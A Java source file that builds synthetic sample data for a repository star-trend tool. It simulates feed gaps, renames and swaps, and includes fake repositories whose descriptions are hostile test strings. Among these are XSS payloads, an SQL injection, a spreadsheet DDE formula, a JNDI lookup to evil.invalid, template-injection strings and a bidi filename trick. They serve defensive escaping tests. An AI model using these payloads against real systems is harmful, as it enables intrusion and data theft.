package dev.reposignal.sample;

import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.NavigableMap;
import java.util.Objects;
import org.jspecify.annotations.Nullable;

/** Everything out of the ordinary in the sample: which repository or day, and what happens to it. */
public final class Scenarios {
    /** The one day on which the feed gave nothing. */
    public static final LocalDate MISSING_DAY = LocalDate.of(2026, 1, 14);

    /** First day of the gap of four days in the feed. */
    public static final LocalDate GAP_FIRST_DAY = LocalDate.of(2026, 1, 24);

    /** Last day of that gap. */
    public static final LocalDate GAP_LAST_DAY = LocalDate.of(2026, 1, 27);

    /** Every count of this day repeats the day before. */
    public static final LocalDate FROZEN_DAY = LocalDate.of(2026, 2, 10);

    /** A quarter of the repositories lost stars since the day before. */
    public static final LocalDate PURGE_DAY = LocalDate.of(2026, 2, 14);

    /** About 40 % of the rows are there. */
    public static final LocalDate THIN_DAY = LocalDate.of(2026, 2, 18);

    /** A name that keeps its id. */
    public static final String RENAMED_FROM = "brackenfold/queuewright";

    /** Its new name, from {@link #RENAMED_ON}. */
    public static final String RENAMED_TO = "brackenfold/wrightqueue";

    /** First day of the new name. */
    public static final LocalDate RENAMED_ON = LocalDate.of(2026, 2, 16);

    /** A name of the feed without ids. */
    public static final String SPLIT_FROM = "tidewick-io/paperlantern";

    /** The name that goes on from {@link #SPLIT_ON}: another {@code name:} key. */
    public static final String SPLIT_TO = "tidewick-io/lantern-notes";

    /** First day of the new name. */
    public static final LocalDate SPLIT_ON = LocalDate.of(2026, 2, 20);

    /** Shows {@link #SWAP_SOURCE}'s counts and description for three days, 23 to 25 February, then itself again. */
    public static final String SWAPPED = "marlowgate/siftling";

    /** Shows {@link #SWAP_SOURCE} on the last two days and still on the last one. */
    public static final String SWAPPED_AT_THE_END = "hollowmere/tinyledger";

    /** The giant the feed showed by mistake. */
    public static final String SWAP_SOURCE = "larchgate/helmlight";

    /** Absent for ten days, 8 to 17 February; comes back with its stars. */
    public static final String BACK_FROM_PRIVATE = "otterbrook/privatim";

    /** Absent for ten days, 8 to 17 February; comes back with next to none of its 3,900 stars. */
    public static final String BACK_WITHOUT_STARS = "sorrelshed/veilnote";

    /** 11 stars a day, every day, no peak anywhere. */
    public static final String QUIET_CLIMBER = "wrenmill/rustle-sync";

    /** Archived: nothing moves any more. */
    public static final String ARCHIVED = "umberyard/oldmill-orm";

    /** Breaks out while its description is hostile. */
    public static final String HOSTILE_BREAKOUT = "thistlewick/inkblot-xss";

    private static final LocalDate SWAP_FIRST_DAY = LocalDate.of(2026, 2, 23);
    private static final LocalDate SWAP_LAST_DAY = LocalDate.of(2026, 2, 25);
    private static final LocalDate LATE_SWAP = LocalDate.of(2026, 3, 5);
    private static final LocalDate PRIVATE_FROM = LocalDate.of(2026, 2, 8);
    private static final LocalDate PUBLIC_AGAIN = LocalDate.of(2026, 2, 18);

    /**
     * Name, theme, language, stars, growth and description of each; the order decides what chance gives the others. A growth is
     * its kind, the stars a day before, the first day, and the further arguments of the {@link Growth} of that name.
     */
    private static final String BREAKOUTS = """
            // Three themes in which independent owners accelerate together: the clusters forming.
            kestrelfold/plughouse     | tool-servers      | TypeScript | 1900 | build 5 2026-02-08 5 160    | One home for all your MCP servers: install, permit and watch them from one place
            emberlin-labs/contextpier | tool-servers      | TypeScript | 640  | build 3 2026-02-12 4 130    | Context protocol gateway that lets assistants reach internal services safely
            j-rovanti/sheetbroker     | tool-servers      | Python     | 210  | sudden 0.6 2026-02-26 150 9 | MCP server for spreadsheets: read, check and edit cells from any AI assistant
            basaltmoor/toolgate       | tool-servers      | Go         | 3800 | build 9 2026-02-10 6 210    | Permissions, budgets and an audit log for every tool an AI assistant calls
            mekalin/bridgekit         | tool-servers      | TypeScript | 890  | sudden 1.5 2026-02-22 95 14 | Turns any OpenAPI description into tools for AI assistants over MCP
            quillstead/ctxswitch      | tool-servers      | Rust       | 450  | step 1 2026-02-21 38        | A tiny MCP proxy that switches tool servers without restarting the assistant
            Tudaresk/mcp-dockyard     | tool-servers      | TypeScript | 1300 | build 4 2026-02-14 4 110    | Build, test and publish MCP servers with recorded tool calls
            copperley-ai/socketpier   | tool-servers      | Python     | 330  | step 0.9 2026-02-24 52      | Tool server for AI assistants over stdio and HTTP, with OAuth built in
            svelmura/murmurbox        | speech            | C++        | 2600 | build 6 2026-02-09 5 190    | Offline speech recognition in a small box: live transcription on any CPU
            plovercroft/dictamint     | speech            | Swift      | 1050 | sudden 2 2026-02-25 120 10  | Dictation app that runs speech recognition on your own machine
            larchhaven/captionthread  | speech            | Python     | 540  | build 2 2026-02-13 4 90     | Live captions with speaker names, transcribed on device in forty languages
            dravokuu/phonemecast      | speech            | Python     | 380  | step 1 2026-02-22 33        | Natural text-to-speech voices for small devices, with emotion control
            fathomgate/voiceflint     | speech            | C++        | 4700 | build 8 2026-02-11 6 140    | Streaming speech-to-text server with word timestamps and int8 models
            nisebari/tonescribe       | speech            | Rust       | 260  | sudden 0.4 2026-02-27 80 8  | Transcribe long recordings locally and tell the speakers apart
            heronwick/tidepg          | postgres-tools    | Rust       | 3100 | build 5 2026-02-12 5 105    | Streams Postgres changes to object storage by logical decoding
            k-stovarov/tuplebranch    | postgres-tools    | Go         | 720  | sudden 1.2 2026-02-23 88 12 | Branch a Postgres database in seconds, copy-on-write, for every pull request
            pewterfield/walmirror     | postgres-tools    | Go         | 1400 | build 3 2026-02-15 4 84     | Postgres backups with point-in-time recovery to any object storage
            alderdock-io/vacuumkeep   | postgres-tools    | C          | 510  | step 1.1 2026-02-23 29      | PostgreSQL extension that keeps vacuum ahead of bloat
            ragimura/elephantlift     | postgres-tools    | Go         | 980  | build 2 2026-02-17 3.5 70   | Zero-downtime Postgres migrations with safe rollbacks
            cinderbrook/queryforge-pg | postgres-tools    | C          | 290  | sudden 0.5 2026-02-28 66 9  | PostgreSQL extension for columnar analytics beside your rows
            // And alone, each in its own theme.
            velvetridge/errandloom    | ai-agents         | Python     | 5200 | sudden 14 2026-02-20 420 7  | AI agents that plan, call tools and check their own work before they say they are done
            bosadane/deleghand        | ai-agents         | TypeScript | 760  | build 2 2026-02-08 5 75     | A coding agent that reads an issue, writes the tests first and opens a pull request
            flintshed/ttyglow         | terminal-tools    | Rust       | 1700 | sudden 2.5 2026-03-01 310 5 | A terminal dashboard for everything that runs on your machine
            yarrowley/fernlang        | compilers         | OCaml      | 2300 | build 3 2026-02-07 6 60     | A small language with effect handlers that compiles to WebAssembly and native code
            junipermere/albumbarn     | self-hosted-media | Go         | 3300 | step 6 2026-02-19 41        | Self-hosted photo library for families who left the cloud
            saffronloom/quantrail     | llm-inference     | C++        | 6900 | build 12 2026-02-10 6 170   | Inference engine that runs quantized language models on one consumer GPU
            tundradock/voxelborn      | game-engines      | C++        | 1250 | sudden 1.8 2026-02-24 140 6 | Voxel game engine with hot reload and rollback networking
            ochrewick/solderbloom     | firmware          | C          | 430  | step 0.7 2026-02-21 22      | Firmware for battery-powered sensors on ESP32, updated over the air
            gunelli/kubekeel          | kubernetes        | Go         | 2050 | build 4 2026-02-13 5 72     | Kubernetes operator that rolls out changes step by step and rolls back by itself
            """;

    /** One line of the catalogue in {@code data/sample/README.md}. */
    record Entry(String subject, String days, String what) {}

    private final Map<String, Theme> themes;
    private final Words words;
    private final Dice dice;
    private final List<Entry> catalogue = new ArrayList<>();
    private final List<Profile> profiles = new ArrayList<>();

    Scenarios(Map<String, Theme> themes, Words words, Dice dice) {
        this.themes = themes;
        this.words = words;
        this.dice = dice;
        feed();
        identities();
        breakouts();
        shapes();
        texts();
    }

    /** What the README lists. */
    List<Entry> catalogue() {
        return catalogue;
    }

    /** The repositories with a part to play. */
    List<Profile> profiles() {
        return profiles;
    }

    private void feed() {
        note("the feed", MISSING_DAY.toString(), "no rows at all");
        note("the feed", GAP_FIRST_DAY + " to " + GAP_LAST_DAY, "no rows at all: a gap of four days");
        note(
                "the feed",
                FROZEN_DAY.toString(),
                "frozen: every stars, forks and open_issues count repeats the day before; the day after holds the gains of both");
        note(
                "the feed",
                PURGE_DAY.toString(),
                "purge day: about a quarter of all repositories lost stars since the day before");
        note("the feed", THIN_DAY.toString(), "thin: about 40 % of the rows are there");
    }

    private void identities() {
        add(
                RENAMED_FROM,
                "data-pipelines",
                5_400,
                Growth.steady(4),
                "A job queue that keeps its promises: retries, schedules and back-pressure");
        note(
                RENAMED_FROM,
                "from " + RENAMED_ON,
                "renamed to `" + RENAMED_TO + "`; the `repo_id` stays, the stars go on");
        list(SPLIT_FROM, "documentation-sites", 8_400, Growth.steady(6));
        note(
                SPLIT_FROM,
                "from " + SPLIT_ON,
                "renamed to `" + SPLIT_TO
                        + "` in the feed without ids: one `name:` key ends, another begins with 8,000+ stars");
        add(SWAP_SOURCE, "kubernetes", 96_000, Growth.steady(48), null);
        note(SWAP_SOURCE, "all", "the giant that wrong rows show");
        list(SWAPPED, "terminal-tools", 1_150, Growth.steady(0.8));
        note(
                SWAPPED,
                SWAP_FIRST_DAY + " to " + SWAP_LAST_DAY,
                "wrong-repository swap: shows the counts, description and language of `" + SWAP_SOURCE
                        + "`, then its own again");
        list(SWAPPED_AT_THE_END, "trading", 620, Growth.steady(0.5));
        note(
                SWAPPED_AT_THE_END,
                LATE_SWAP + " to " + SampleData.LAST_DAY,
                "the same swap, still on at the last day: must not surface");
        add(BACK_FROM_PRIVATE, "security", 2_700, Growth.steady(2), null);
        note(
                BACK_FROM_PRIVATE,
                PRIVATE_FROM + " to " + PUBLIC_AGAIN.minusDays(1),
                "private, so absent for ten days; comes back with its stars");
        add(BACK_WITHOUT_STARS, "documentation-sites", 3_900, Growth.steady(2), null);
        note(
                BACK_WITHOUT_STARS,
                PRIVATE_FROM + " to " + PUBLIC_AGAIN.minusDays(1),
                "private, so absent for ten days; comes back with next to no stars");
        add(
                ARCHIVED,
                "web-frameworks",
                12_800,
                Growth.steady(0),
                "ARCHIVED. An object-relational mapper for a simpler time");
        profiles.add(profiles.remove(profiles.size() - 1).inArchive());
        note(ARCHIVED, "all", "`archived` is true and nothing moves");
    }

    private void breakouts() {
        for (String line :
                BREAKOUTS.lines().filter(line -> !line.startsWith("//")).toList()) {
            List<String> cells = List.of(line.split(" *\\| ", -1));
            String growth = cells.get(4);
            add(cells.get(0), cells.get(1), Long.parseLong(cells.get(3)), growth(growth), cells.get(5));
            lastIs(cells.get(2));
            note(cells.get(0), "the last weeks", "breaks out (" + cells.get(1) + "): " + kind(growth));
        }
        note(HOSTILE_BREAKOUT, "the last weeks", "breaks out (security): sudden, with a hostile description");
        add(
                HOSTILE_BREAKOUT,
                "security",
                870,
                Growth.sudden(1.4, day(2, 23), 105, 9),
                "Finds <script>alert('hi')</script>, <img src=x onerror=alert(1)> & friends in \"safe\" templates, before your users do [really](javascript:alert(1))");
        lastIs("TypeScript");
        // Two that broke out weeks ago and have cooled down.
        add("sablemoor/promptgrove", "llm-evaluation", 1_800, Growth.sudden(2, day(1, 8), 260, 5), null);
        note("sablemoor/promptgrove", "from 2026-01-09", "broke out and has cooled down since: must not surface");
        add("vostellund/easelmint", "image-generation", 2_900, Growth.sudden(4, day(1, 12), 340, 4), null);
        note("vostellund/easelmint", "from 2026-01-13", "broke out and has cooled down since: must not surface");
    }

    private void shapes() {
        add(
                QUIET_CLIMBER,
                "data-pipelines",
                1_450,
                Growth.steady(11),
                "Keeps two folders in step over a bad line, and says exactly what it did");
        note(QUIET_CLIMBER, "all", "quiet mover: about 11 stars a day, every day, no peak");
        giant("cobaltfield/nimbusrail", "web-frameworks", 204_000, 95);
        giant("emberyard/openprimer", "learning-resources", 187_000, 120);
        giant("kestrelgate/vectoria", "vector-search", 72_000, 46);
        giant("marrowmill/brushfire", "image-generation", 128_000, 70);
        giant("hollowbrook/shellmate", "terminal-tools", 88_000, 33);
        giant("copperhaven/gridwell", "ui-components", 143_000, 62);
        frozen("birchstead/stillwater", "observability", 9_300, 6);
        frozen("zamoresk/coldframe", "networking", 15_800, 9);
        frozen("pluverdane/stonetape", "firmware", 6_100, 4);
        spike("drumeloku/flashnote", "mobile-apps", 700, day(1, 6), 620);
        spike("alderfold/onehit-ui", "ui-components", 1_900, day(1, 19), 480);
        spike("stigarov/moonmeter", "home-automation", 420, day(2, 2), 350);
        spike("wrenshed/papercut", "documentation-sites", 980, day(2, 22), 540);
        spike("lirosen/tinyray", "game-engines", 310, day(3, 3), 410);
        add("fenoquist/filled-ledger", "trading", 2_200, Growth.steady(5), null);
        note(
                "fenoquist/filled-ledger",
                "2026-02-26 to 2026-02-28",
                "`observed` is false: rows filled in later, on the straight line between their neighbours");
    }

    private void texts() {
        hostile(
                "cinderley/markup-museum",
                "</td></tr></table><h1 onclick=\"steal()\">Owned</h1><!-- and a comment",
                "HTML that closes tables, an attribute and an open comment");
        hostile(
                "cinderley/attribute-zoo",
                "\" onmouseover=\"alert(1)\" x=\" ' autofocus onfocus='alert(2)",
                "breaks out of attributes");
        hostile(
                "cinderley/link-bait",
                "[free stars](javascript:alert(document.domain)) ![x](https://evil.invalid/p.png) <https://evil.invalid>",
                "Markdown links and images");
        hostile(
                "cinderley/markdown-maze",
                "# Heading | cell | *bold* `code` ``` \\ _under_ ~~gone~~ > quote | 1. list",
                "Markdown that breaks headings and tables");
        hostile("cinderley/bobby-tables", "Robert'); DROP TABLE snapshots;-- ' OR '1'='1", "SQL");
        hostile(
                "cinderley/formula-one",
                "=HYPERLINK(\"http://evil.invalid\",\"click\")+cmd|' /C calc'!A0",
                "spreadsheet formula");
        hostile(
                "cinderley/bidi-trick",
                "Safe tool \u202Egpj.exe\u202C with a bidi override and a zero\u200Bwidth space",
                "bidi override and a zero-width space");
        hostile(
                "cinderley/template-hole",
                "${jndi:ldap://evil.invalid/a} {{constructor.constructor('alert(1)')()}} @{name} <%= 7*7 %> %s %n",
                "template and format placeholders");
        hostile(
                "cinderley/line-breaker",
                "First line, with a comma\nsecond \"quoted\" line\r\n\r\nfourth line;with;semicolons",
                "commas, quotes and line ends inside one field");
        hostile(
                "cinderley/entity-soup",
                "&lt;b&gt; &amp;amp; &#x3C;script&#x3E; &notanentity; \u0001\u0007 control",
                "entities that must not be unescaped, and control characters");
        hostile(
                "cinderley/long-wind",
                "a very long description that does not end ".repeat(50).substring(0, 1_999) + "!",
                "2,000 characters");
        hostile("cinderley/one-long-word", "W".repeat(300), "300 characters without a break");
        hostile(
                "cinderley/zalgo",
                "Z\u0351\u036B\u0343a\u0363\u0368l\u0368\u0334g\u0337o\u0322 text \uD83C\uDFF4\u200D\u2620\uFE0F \uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67",
                "stacked accents and joined emoji");
        hostile("cinderley/just-spaces", "   ", "a description of spaces only");
        rightToLeft(
                "danovelli/kitaba",
                "documentation-sites",
                "محرر ملاحظات مفتوح المصدر يعمل دون اتصال بالإنترنت",
                "Arabic");
        rightToLeft("tuvarosen/sefer-app", "mobile-apps", "יישום קריאה חופשי לאנדרואיד, ללא פרסומות", "Hebrew");
        rightToLeft("haribari/payam-bot", "tool-servers", "یک سرور ابزار متن‌باز برای دستیارهای هوش مصنوعی", "Persian");
        add("velnimura/emoji-only", "mobile-apps", 640, Growth.steady(0.3), "🎉🔥🚀✨💯");
        note("velnimura/emoji-only", "all", "a description of emoji only: nothing to embed or cluster by words");
        add(
                "plusquist/c-plus-plus-minus",
                "compilers",
                1_120,
                Growth.steady(0.6),
                "C++/C#/F# and .NET interop, 100% header-only");
        lastIs("C++");
        note("plusquist/c-plus-plus-minus", "all", "punctuation that is part of words");
    }

    /** Lets the feed go wrong for the repositories named here; the rows change in place. */
    void apply(Map<String, NavigableMap<LocalDate, SampleRow>> feed) {
        rename(rowsOf(feed, RENAMED_FROM), RENAMED_ON, RENAMED_TO);
        rename(rowsOf(feed, SPLIT_FROM), SPLIT_ON, SPLIT_TO);
        swap(feed, SWAPPED, SWAP_FIRST_DAY, SWAP_LAST_DAY);
        swap(feed, SWAPPED_AT_THE_END, LATE_SWAP, SampleData.LAST_DAY);
        rowsOf(feed, BACK_FROM_PRIVATE).subMap(PRIVATE_FROM, PUBLIC_AGAIN).clear();
        NavigableMap<LocalDate, SampleRow> bare = rowsOf(feed, BACK_WITHOUT_STARS);
        long starsLost = Objects.requireNonNull(bare.get(PUBLIC_AGAIN)).stars() - 3;
        bare.subMap(PRIVATE_FROM, PUBLIC_AGAIN).clear();
        bare.tailMap(PUBLIC_AGAIN).replaceAll((day, row) -> row.withStars(Math.max(3, row.stars() - starsLost)));
        fillIn(rowsOf(feed, "fenoquist/filled-ledger"), LocalDate.of(2026, 2, 26), 3);
    }

    private void add(String name, String theme, long stars, Growth growth, @Nullable String description) {
        Theme itsTheme = theme(theme);
        words.reserve(name.substring(0, name.indexOf('/')));
        profiles.add(new Profile(
                name,
                description == null ? words.description(itsTheme) : description,
                language(itsTheme),
                words.topics(itsTheme),
                stars,
                growth,
                true,
                true,
                false));
    }

    private void list(String name, String theme, long stars, Growth growth) {
        add(name, theme, stars, growth, null);
        profiles.add(profiles.remove(profiles.size() - 1).fromList());
    }

    private static Growth growth(String text) {
        String[] words = text.split(" ", -1);
        double rate = Double.parseDouble(words[1]);
        LocalDate start = LocalDate.parse(words[2]);
        double third = Double.parseDouble(words[3]);
        return switch (words[0]) {
            case "build" -> Growth.build(rate, start, third, Double.parseDouble(words[4]));
            case "sudden" -> Growth.sudden(rate, start, third, Double.parseDouble(words[4]));
            case "step" -> Growth.step(rate, start, third);
            default -> throw new IllegalArgumentException(text);
        };
    }

    private static String kind(String growth) {
        return switch (growth.substring(0, growth.indexOf(' '))) {
            case "build" -> "slow build";
            case "sudden" -> "sudden";
            default -> "a new level";
        };
    }

    private void lastIs(String language) {
        profiles.add(profiles.remove(profiles.size() - 1).in(language));
    }

    private void giant(String name, String theme, long stars, double rate) {
        add(name, theme, stars, Growth.steady(rate), null);
        note(name, "all", "giant: many stars a day, as always");
    }

    private void frozen(String name, String theme, long stars, double rate) {
        add(name, theme, stars, Growth.stopped(rate, day(1, 20)), null);
        note(name, "from 2026-01-20", "frozen series: large enough to move, but its count stands still");
    }

    private void spike(String name, String theme, long stars, LocalDate loud, double size) {
        add(name, theme, stars, Growth.spike(1, loud, size), null);
        note(name, loud.plusDays(1).toString(), "hot for one day and nothing after");
    }

    private void hostile(String name, String description, String what) {
        add(name, "security", 500, Growth.steady(0.4), description);
        note(name, "all", "hostile text: " + what);
    }

    private void rightToLeft(String name, String theme, String description, String script) {
        add(name, theme, 900, Growth.steady(0.7), description);
        note(name, "all", "right-to-left description: " + script);
    }

    private void note(String subject, String days, String what) {
        catalogue.add(new Entry(subject, days, what));
    }

    private Theme theme(String key) {
        return Objects.requireNonNull(themes.get(key), key);
    }

    private @Nullable String language(Theme theme) {
        String language = dice.pick(theme.languages());
        return language.equals("-") ? null : language;
    }

    private static void rename(NavigableMap<LocalDate, SampleRow> rows, LocalDate from, String name) {
        rows.tailMap(from).replaceAll((day, row) -> row.named(name));
    }

    private static void swap(
            Map<String, NavigableMap<LocalDate, SampleRow>> feed, String name, LocalDate from, LocalDate to) {
        NavigableMap<LocalDate, SampleRow> wrong = rowsOf(feed, SWAP_SOURCE);
        rowsOf(feed, name)
                .subMap(from, to.plusDays(1))
                .replaceAll((day, row) -> row.showing(Objects.requireNonNull(wrong.get(day))));
    }

    /** Puts rows nobody saw on the straight line between the days around them. */
    static void fillIn(NavigableMap<LocalDate, SampleRow> rows, LocalDate first, int days) {
        long before = Objects.requireNonNull(rows.get(first.minusDays(1))).stars();
        long after = Objects.requireNonNull(rows.get(first.plusDays(days))).stars();
        for (int i = 0; i < days; i++) {
            LocalDate day = first.plusDays(i);
            SampleRow row = Objects.requireNonNull(rows.get(day));
            rows.put(
                    day,
                    row.withStars(before + (after - before) * (i + 1) / (days + 1))
                            .filledIn());
        }
    }

    private static NavigableMap<LocalDate, SampleRow> rowsOf(
            Map<String, NavigableMap<LocalDate, SampleRow>> feed, String name) {
        return Objects.requireNonNull(feed.get(name), name);
    }

    private static LocalDate day(int month, int day) {
        return LocalDate.of(2026, month, day);
    }
}
